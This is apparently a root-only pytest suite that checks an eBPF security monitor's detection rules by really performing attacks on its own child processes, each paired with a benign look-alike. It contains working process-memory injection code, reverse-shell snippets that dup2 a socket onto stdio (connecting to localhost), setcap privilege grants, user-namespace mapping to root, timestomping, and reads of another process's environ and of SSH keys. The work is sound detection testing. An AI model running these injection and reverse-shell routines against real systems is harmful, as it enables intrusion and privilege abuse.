"""Attack classes performed for real against a real `qsc-alpha` (eBPF, default rules), each
with a benign look-alike that must stay quiet: writing another process's memory (T1055.009),
granting file capabilities (T1548), namespaces from unexpected programs and a user namespace
mapped to root (T1611), backdating a file below a system directory (T1070.006).

Everything is contained and restored: the target processes are the test's own children, files
are made for the test and removed, the network namespace is deleted.
"""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from qsc.common.v1 import process_details_pb2
from tests.bpf.actions import killing
from tests.bpf.test_alpha_e2e import (
    WAIT,
    Event,
    SealedStream,
    pki,  # noqa: F401  (the module's PKI fixture)
    running_alpha,
    techniques,
)

pytestmark = pytest.mark.root


@pytest.fixture(scope="module")
def alpha(pki: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[SealedStream]:  # noqa: F811
    with running_alpha(pki, tmp_path_factory.mktemp("alpha-attacks")) as (_, stream):
        yield stream


def alert(stream: SealedStream, rule: str, pid: int | None = None, what: str = "") -> Event:
    return stream.wait_for(
        lambda e: e.rule.id == rule and (pid is None or e.process.pid == pid),
        what or f"{rule} of pid {pid}",
        WAIT,
    )


def quiet(stream: SealedStream, rule: str, pid: int) -> None:
    hits = [e for e in list(stream.events) if e.rule.id == rule and e.process.pid == pid]
    assert not hits, hits[0]


def tool(tmp_path: Path, name: str) -> Path:
    """A copy of the interpreter under a name of its own, outside the system directories."""
    exe = tmp_path / name
    shutil.copy(os.path.realpath(sys.executable), exe)
    return exe


# --- another process's memory ---------------------------------------------------------------

VICTIM = """
import ctypes, sys, time
buf = ctypes.create_string_buffer(b"original", 64)
print(ctypes.addressof(buf), flush=True)
sys.stdin.readline()
print(buf.value.decode(), flush=True)
"""

# argv: method (vm, mem, read), pid, address.
INJECT = """
import ctypes, os, sys
method, pid, addr = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
data = b"injected"
if method == "mem":
    fd = os.open(f"/proc/{pid}/mem", os.O_RDWR)
    os.pwrite(fd, data, addr)
    os.close(fd)
elif method == "read":
    fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    os.pread(fd, len(data), addr)
    os.close(fd)
else:
    class iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
    libc = ctypes.CDLL(None, use_errno=True)
    src = ctypes.create_string_buffer(data)
    local, remote = iovec(ctypes.addressof(src), len(data)), iovec(addr, len(data))
    call = libc.process_vm_readv if method == "vmread" else libc.process_vm_writev
    n = call(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    assert n == len(data), ctypes.get_errno()
"""


def _victim() -> tuple[subprocess.Popen[str], int]:
    victim = subprocess.Popen(
        [sys.executable, "-c", VICTIM], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
    )
    assert victim.stdout is not None
    return victim, int(victim.stdout.readline())


def _changed(victim: subprocess.Popen[str]) -> str:
    out, _ = victim.communicate("\n", timeout=10)
    return out.strip()


@pytest.mark.parametrize("method", ["vm", "mem"])
def test_writing_another_process_memory(alpha: SealedStream, tmp_path: Path, method: str) -> None:
    exe = tool(tmp_path, f"inject-{method}")
    victim, addr = _victim()
    with killing(victim):
        injector = subprocess.Popen(
            [str(exe), "-I", "-c", INJECT, method, str(victim.pid), str(addr)]
        )
        assert injector.wait(timeout=30) == 0
        assert _changed(victim) == "injected"  # the write really happened
    event = alert(alpha, "alpha.process_memory_write", injector.pid)
    if method == "vm":
        assert event.process_memory_write.target.pid == victim.pid
        assert event.process_memory_write.result == len(b"injected")
    else:
        assert event.file_access.path == f"/proc/{victim.pid}/mem"
    assert "T1055.009" in techniques(event)


def test_reading_another_process_memory_is_quiet(alpha: SealedStream, tmp_path: Path) -> None:
    exe = tool(tmp_path, "reader")
    victim, addr = _victim()
    with killing(victim):
        readers = [
            subprocess.Popen([str(exe), "-I", "-c", INJECT, m, str(victim.pid), str(addr)])
            for m in ("read", "vmread")
        ]
        for r in readers:
            assert r.wait(timeout=30) == 0
        assert _changed(victim) == "original"
    # A write after them: once its alert is in, theirs would have been too.
    marker = tool(tmp_path, "marker")
    victim2, addr2 = _victim()
    with killing(victim2):
        m = subprocess.Popen([str(marker), "-I", "-c", INJECT, "vm", str(victim2.pid), str(addr2)])
        assert m.wait(timeout=30) == 0
        _changed(victim2)
    alert(alpha, "alpha.process_memory_write", m.pid)
    for r in readers:
        quiet(alpha, "alpha.process_memory_write", r.pid)


# --- file capabilities ----------------------------------------------------------------------


def test_setcap_grants_file_capabilities(alpha: SealedStream, tmp_path: Path) -> None:
    target = tool(tmp_path, "python-cap")
    p = subprocess.Popen(["setcap", "cap_setuid+ep", str(target)])
    assert p.wait(timeout=30) == 0
    try:
        event = alert(alpha, "alpha.file_capabilities_set", p.pid)
        assert event.file_attribute_change.name == "security.capability"
        assert event.file_attribute_change.path == str(target)
        assert event.file_attribute_change.result == 0
    finally:
        target.unlink()


def test_other_extended_attributes_are_quiet(alpha: SealedStream, tmp_path: Path) -> None:
    target = tmp_path / "plain"
    target.write_text("x")
    code = f"import os; os.setxattr({str(target)!r}, 'user.qsc', b'note')"
    benign = subprocess.Popen([sys.executable, "-c", code])
    assert benign.wait(timeout=30) == 0
    marker = tool(tmp_path, "python-cap2")
    p = subprocess.Popen(["setcap", "cap_net_raw+ep", str(marker)])
    assert p.wait(timeout=30) == 0
    alert(alpha, "alpha.file_capabilities_set", p.pid)
    quiet(alpha, "alpha.file_capabilities_set", benign.pid)


# --- namespaces -----------------------------------------------------------------------------


def test_unshare_maps_a_user_namespace_to_root(alpha: SealedStream) -> None:
    p = subprocess.Popen(["unshare", "--user", "--map-root-user", "--mount", "true"])
    assert p.wait(timeout=30) == 0
    ns = alert(alpha, "alpha.namespace_change", p.pid)
    assert {"user", "mnt"} <= set(ns.namespace_change.namespaces)
    mapping = alert(alpha, "alpha.userns_mapping", p.pid)
    assert mapping.file_access.path.endswith(("/uid_map", "/gid_map"))


def test_nsenter_enters_another_process_namespaces(alpha: SealedStream) -> None:
    sleeper = subprocess.Popen(["unshare", "--uts", "sleep", "30"])
    with killing(sleeper):
        time.sleep(0.2)  # let it unshare and exec sleep
        p = subprocess.Popen(["nsenter", "-t", str(sleeper.pid), "--uts", "true"])
        assert p.wait(timeout=30) == 0
        event = alert(alpha, "alpha.namespace_change", p.pid)
    assert event.namespace_change.call == process_details_pb2.NAMESPACE_CALL_SETNS
    assert "uts" in event.namespace_change.namespaces


def test_ip_netns_is_quiet(alpha: SealedStream) -> None:
    name = f"qsc-{uuid.uuid4().hex[:8]}"
    add = subprocess.Popen(["ip", "netns", "add", name])
    assert add.wait(timeout=30) == 0
    try:
        run = subprocess.Popen(["ip", "netns", "exec", name, "true"])
        assert run.wait(timeout=30) == 0
    finally:
        subprocess.run(["ip", "netns", "delete", name], check=True, timeout=30)
    marker = subprocess.Popen(["unshare", "--uts", "true"])
    assert marker.wait(timeout=30) == 0
    alert(alpha, "alpha.namespace_change", marker.pid)
    quiet(alpha, "alpha.namespace_change", add.pid)
    quiet(alpha, "alpha.namespace_change", run.pid)


# --- backdated files ------------------------------------------------------------------------


@pytest.fixture
def planted() -> Iterator[Path]:
    path = Path(f"/usr/local/bin/qsc-planted-{uuid.uuid4().hex[:8]}")
    path.write_text("#!/bin/sh\n")
    try:
        yield path
    finally:
        path.unlink(missing_ok=True)


def test_touch_backdates_a_planted_binary(alpha: SealedStream, planted: Path) -> None:
    p = subprocess.Popen(["touch", "-d", "2019-03-01 12:00", str(planted)])
    assert p.wait(timeout=30) == 0
    event = alert(alpha, "alpha.timestomp", p.pid)
    assert event.file_timestamp_change.path == str(planted)
    assert event.file_timestamp_change.backdated_seconds > 365 * 86400
    assert event.file_timestamp_change.modification_time.seconds == int(planted.stat().st_mtime)


def test_touch_by_reference_from_a_relative_path(alpha: SealedStream, planted: Path) -> None:
    """`touch -r` with a relative name: the file is named in the kernel from the cwd."""
    p = subprocess.Popen(["touch", "-r", "/bin/sh", planted.name], cwd=planted.parent)
    assert p.wait(timeout=30) == 0
    event = alert(alpha, "alpha.timestomp", p.pid)
    assert event.file_timestamp_change.path == str(planted)


def test_touch_now_and_backdating_outside_system_directories_are_quiet(
    alpha: SealedStream, planted: Path, tmp_path: Path
) -> None:
    now = subprocess.Popen(["touch", str(planted)])
    elsewhere = subprocess.Popen(["touch", "-d", "2019-03-01", str(tmp_path / "old")])
    assert now.wait(timeout=30) == 0
    assert elsewhere.wait(timeout=30) == 0
    marker = subprocess.Popen(["touch", "-d", "2018-01-01", str(planted)])
    assert marker.wait(timeout=30) == 0
    alert(alpha, "alpha.timestomp", marker.pid)
    quiet(alpha, "alpha.timestomp", now.pid)
    quiet(alpha, "alpha.timestomp", elsewhere.pid)


# --- a reverse shell that exits at once --------------------------------------------------------

QUICK_SHELL = """
import os, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
os.execv("/bin/sh", ["sh", "-c", "exit 0"])
"""


def test_a_reverse_shell_gone_at_once_is_still_seen(alpha: SealedStream) -> None:
    """stdio is read from the task's fd table at exec: /proc has nothing left to show."""
    with socket.create_server(("127.0.0.1", 0)) as srv:
        port = srv.getsockname()[1]
        child = subprocess.Popen([sys.executable, "-c", QUICK_SHELL, str(port)])
        conn, _ = srv.accept()
        with conn:
            assert child.wait(timeout=30) == 0
    event = alert(alpha, "alpha.reverse_shell", child.pid)
    assert event.process_exec.stdin.peer.port == port
    assert event.process_exec.stdin.peer.address == "127.0.0.1"


# A shell without a shell: commands read from the socket on stdin, run by the interpreter
# itself. No exec follows the dup2, so no exec-time rule can see it.
NO_EXEC_SHELL = """
import os, socket, subprocess, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in (0, 1):
    os.dup2(s.fileno(), fd, inheritable=(fd == 0))  # dup2, then dup3 with O_CLOEXEC
line = sys.stdin.readline()
sys.stdout.write(line.upper())
sys.stdout.flush()
"""

# The same moves with a pipe and a socket kept off the standard streams: quiet in the kernel.
NOT_A_SHELL = """
import os, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
r, w = os.pipe()
os.dup2(w, 1)
os.dup2(s.fileno(), 7)
"""


def test_stdio_redirected_to_a_socket_without_an_exec(alpha: SealedStream) -> None:
    with socket.create_server(("127.0.0.1", 0)) as srv:
        port = srv.getsockname()[1]
        benign = subprocess.Popen([sys.executable, "-c", NOT_A_SHELL, str(port)])
        conn, _ = srv.accept()
        conn.close()
        assert benign.wait(timeout=30) == 0
        child = subprocess.Popen([sys.executable, "-c", NO_EXEC_SHELL, str(port)])
        conn, _ = srv.accept()
        with conn:
            conn.sendall(b"id\n")
            assert conn.makefile().readline() == "ID\n"
        assert child.wait(timeout=30) == 0
    for call, fd in (("dup2", 0), ("dup3", 1)):
        event = alpha.wait_for(
            lambda e, call=call: (
                e.process.pid == child.pid  # type: ignore[misc]
                and e.rule.id == "alpha.stdio_redirected_to_socket"
                and e.descriptor_redirect.call == call
            ),
            f"the {call} onto fd {fd}",
            WAIT,
        )
        assert event.descriptor_redirect.new_fd == fd
        assert event.descriptor_redirect.target.peer.port == port
        assert event.descriptor_redirect.target.peer.address == "127.0.0.1"
    assert not [
        e for e in list(alpha.events)
        if e.process.pid == benign.pid and e.WhichOneof("detail") == "descriptor_redirect"
    ]  # fmt: skip


# --- paths below /proc, /dev and home directories ----------------------------------------------


def test_reading_another_process_environment(alpha: SealedStream) -> None:
    victim = subprocess.Popen(["sleep", "30"], env={"QSC_SECRET": "x"})
    with killing(victim):
        reader = subprocess.Popen(["cat", f"/proc/{victim.pid}/environ"], stdout=subprocess.DEVNULL)
        assert reader.wait(timeout=30) == 0
        own = subprocess.Popen(["cat", "/proc/self/environ"], stdout=subprocess.DEVNULL)
        assert own.wait(timeout=30) == 0
    event = alert(alpha, "alpha.environ_read", reader.pid)
    assert event.file_access.path == f"/proc/{victim.pid}/environ"
    quiet(alpha, "alpha.environ_read", own.pid)


def test_a_file_created_below_dev(alpha: SealedStream) -> None:
    path = Path(f"/dev/.qsc-{uuid.uuid4().hex[:8]}")
    try:
        p = subprocess.Popen(["touch", str(path)])
        assert p.wait(timeout=30) == 0
        event = alert(alpha, "alpha.dev_file_created", p.pid)
        assert event.file_access.path == str(path)
    finally:
        path.unlink(missing_ok=True)


def test_ssh_keys_read_by_a_non_ssh_program(alpha: SealedStream) -> None:
    home = Path(f"/home/qsc-{uuid.uuid4().hex[:8]}")
    key = home / ".ssh" / "id_ed25519"
    key.parent.mkdir(parents=True)
    try:
        key.write_text("not a key\n")
        p = subprocess.Popen(["cat", str(key)], stdout=subprocess.DEVNULL)
        assert p.wait(timeout=30) == 0
        event = alert(alpha, "alpha.ssh_information_read", p.pid)
        assert event.file_access.path == str(key)
        keygen = subprocess.Popen(
            ["ssh-keygen", "-l", "-f", str(key)],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        keygen.wait(timeout=30)  # not a key: it fails, having read it
        marker = subprocess.Popen(["head", "-c1", str(key)], stdout=subprocess.DEVNULL)
        assert marker.wait(timeout=30) == 0
        alert(alpha, "alpha.ssh_information_read", marker.pid)
        quiet(alpha, "alpha.ssh_information_read", keygen.pid)
    finally:
        shutil.rmtree(home)


@pytest.mark.parametrize("target", ["/", "/etc", "/root"])
def test_symlink_in_tmp_to_a_top_directory(
    alpha: SealedStream, tmp_path: Path, target: str
) -> None:
    """Outside the write prefixes, a link to /, /etc or /root still passes the kernel filter;
    a link to an ordinary directory does not reach the rules."""
    benign = subprocess.Popen(["ln", "-s", "/usr/share/doc", str(tmp_path / "doc")])
    assert benign.wait(timeout=30) == 0
    p = subprocess.Popen(["ln", "-s", target, str(tmp_path / "top")])
    assert p.wait(timeout=30) == 0
    event = alert(alpha, "alpha.sensitive_file_link", p.pid)
    assert event.file_link.target == target
    assert not [e for e in list(alpha.events) if e.process.pid == benign.pid]


SPAWN_SHELL = "import subprocess, sys; subprocess.run(['sh', '-c', 'true'], check=True)"


def test_shell_below_a_java_hosted_server(alpha: SealedStream, tmp_path: Path) -> None:
    """The parent's command line travels with the child's exec: a JVM running Kafka is a
    server, the same JVM running a build tool is not."""
    java = tool(tmp_path, "java")
    build = subprocess.Popen([str(java), "-c", SPAWN_SHELL, "-jar", "gradle-wrapper.jar"])
    assert build.wait(timeout=30) == 0
    kafka = subprocess.Popen([str(java), "-c", SPAWN_SHELL, "-cp", "libs/*", "kafka.Kafka"])
    assert kafka.wait(timeout=30) == 0
    event = alpha.wait_for(
        lambda e: e.rule.id == "alpha.shell_by_server" and e.process.ppid == kafka.pid,
        "a shell below java kafka.Kafka",
        WAIT,
    )
    assert "kafka.Kafka" in list(event.process.ancestry[0].args)
    assert not [
        e for e in list(alpha.events)
        if e.rule.id == "alpha.shell_by_server" and e.process.ppid == build.pid
    ]  # fmt: skip
